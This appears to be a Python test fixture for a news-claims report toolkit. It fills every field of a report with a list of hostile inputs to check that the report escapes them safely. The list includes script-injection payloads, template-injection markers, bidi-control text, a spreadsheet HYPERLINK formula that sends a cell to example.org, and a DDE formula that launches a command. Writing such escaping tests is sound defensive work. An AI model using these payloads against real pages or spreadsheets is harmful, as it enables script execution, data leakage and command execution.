"""Pages made without a kernel: a notebook with the results of pieces in it, as if it had run; and an article that tries everything."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

import claims_fixture as fixture
import nbformat
import pandas as pd

from toolkit.charts import draw_every_kind, draw_rival_claims
from toolkit.reports.inputs import Tables, find_fingerprint
from toolkit.reports.page import describe_made, find_facts, make_page
from toolkit.tables import make_table_from_dicts

# Each of them was meant for a browser, a spreadsheet, a reader's eye or our own templates.
HOSTILE = (
    "<script>window.ran = 1</script>",
    "</title></svg></td><script>window.ran = 2</script>",
    "<img src=x onerror='window.ran = 3'>",
    '" onmouseover="window.ran = 4',
    "' autofocus onfocus='window.ran = 5",
    "<a href=javascript:window.ran=6>click</a>",
    "&lt;script&gt;window.ran = 7&lt;/script&gt;",
    "&#60;script&#62;window.ran = 8&#60;/script&#62;",
    "]]><script>window.ran = 9</script>",
    "--><script>window.ran = 10</script><!--",
    "<style>body{display:none}</style>",
    "<!--result-0--> {{ 7 * 7 }} {% raw %}",
    "\u202e13 dellik\u202c and \u2066x",
    "a\x00b\x08c\x1bd",
    "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "$\\frac{1}{0}$ and $^{$",
    "\u05d4\u05e8\u05d5\u05d2\u05d9\u05dd \u0642\u062a\u0644\u0649",
    "x" * 9_000,
    "word " * 4_000,
)  # fmt: skip


def hostile_claims() -> pd.DataFrame:
    """A claim for each hostile text, which stands in every place that an article's words may reach."""
    rows = []
    for place, words in enumerate(HOSTILE):
        day = f"2016-03-{place + 1:02d}"
        rows.append(
            fixture.claim(
                f"h{place}", "12", sentence=f"{words} said 12 were killed {words}", measure="killed", kind="event", low=12, high=12,
                source=words, source_org=words, outlet=words, via=words, place=words[:300], victim="civilian", counted=words,
                period_start=day, period_end=day, published=day, cue=words, period_text=words, open_question=words,
            )
        )  # fmt: skip
    return fixture.table_of(rows)


def make_tables(claims: pd.DataFrame, corpus: str = "sample") -> Tables:
    """Tables with these claims in them, an article for each, a refused file and a refused number."""
    stories = [
        {"article_id": row.article_id, "outlet": row.outlet, "published": row.published, "headline": row.sentence[:20_000],
         "path": f"desk/{str(row.source)[:400]}.txt", "text": " " * 100 + row.sentence, "language": "en", "cluster_id": row.cluster_id}
        for row in claims.drop_duplicates("article_id").itertuples()
    ]  # fmt: skip
    articles = make_table_from_dicts("articles", stories)
    refused = make_table_from_dicts(
        "refused", [{"path": words, "reason": words, "remedy": words} for words in HOSTILE[:16]]
    )
    unread = [
        {"article_id": row.article_id, "number_text": row.number_text, "fate": "refused", "reason": row.source,
         "char_start": row.char_start, "char_end": row.char_end}
        for row in claims.head(20).itertuples()
    ]  # fmt: skip
    checks = [{"check_id": "k", "rule": "r", "claim_ids": str(claims["claim_id"].iloc[0]), "question": HOSTILE[1]}]
    return Tables(
        corpus, "open", find_fingerprint(articles), articles, refused, make_table_from_dicts("numbers", unread),
        make_table_from_dicts("dates", []), claims, make_table_from_dicts("checks", checks),
    )  # fmt: skip


def make_notebook(parts: Sequence[Any], title: str = "What is claimed?") -> nbformat.NotebookNode:
    """A notebook that has run: a text is a Markdown cell, anything else a result."""
    cells = [nbformat.v4.new_markdown_cell(f"# {title}")]
    for part in parts:
        if isinstance(part, str):
            cells.append(nbformat.v4.new_markdown_cell(part))
            continue
        shown = part._repr_mimebundle_() if hasattr(part, "_repr_mimebundle_") else {"text/html": part._repr_html_()}
        cells.append(nbformat.v4.new_code_cell("1", outputs=[nbformat.v4.new_output("execute_result", data=shown)]))
    return nbformat.v4.new_notebook(cells=cells)


def make_whole_page(tables: Tables, measures: Sequence[str] = ("sorties", "killed", "wounded"), **options: Any) -> str:
    """A page with every piece that a report has."""
    from toolkit import reports

    claims = tables.claims
    pictures = draw_every_kind(claims, measures=measures, corpus=tables.corpus)
    rivals = [draw_rival_claims(claims, measure=measure, corpus=tables.corpus) for measure in measures]
    notebook = make_notebook(
        [
            reports.show_lede(tables), "## What stands out?", reports.show_findings(pictures, rivals), "## Over time", *pictures, *rivals,
            "## What should be asked?", reports.show_checks(tables.checks, claims), "## Who is quoted?", reports.show_sources(claims),
            "## The evidence", reports.show_evidence(claims, tables.articles, [*pictures, *rivals], **options),
            "## What lies behind it?", reports.show_background(tables, claims),
        ]
    )  # fmt: skip
    facts = find_facts(notebook)
    return make_page(notebook, title="What is claimed?", made=describe_made({}, facts, {}), index="index.html")
